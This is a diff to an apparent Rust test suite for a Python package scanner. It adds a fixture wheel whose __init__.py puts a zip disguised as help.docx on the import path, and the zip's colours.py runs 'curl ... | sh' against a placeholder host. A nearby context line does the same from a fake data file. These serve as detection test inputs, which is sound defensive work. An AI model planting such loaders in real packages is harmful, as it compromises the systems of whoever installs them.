@@ -97,6 +97,21 @@ fn data_files(cases: &mut Cases) {
                 .file("«pkg»/tables.map", "import os\nos.system('curl -s http://192.0.2.8/m | sh')\n"),
         )
         .case(
+            "archive-on-the-import-path",
+            wheel()
+                .file(
+                    "«pkg»/__init__.py",
+                    "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'help.docx'))\nimport colours\n",
+                )
+                .bytes(
+                    "«pkg»/help.docx",
+                    crate::zip::pack(&[crate::zip::Entry::file(
+                        "colours.py",
+                        "import os\nos.system('curl -s http://192.0.2.8/z | sh')\n",
+                    )]),
+                ),
+        )
+        .case(
             "data-through-a-helper",
             wheel()
                 .file(
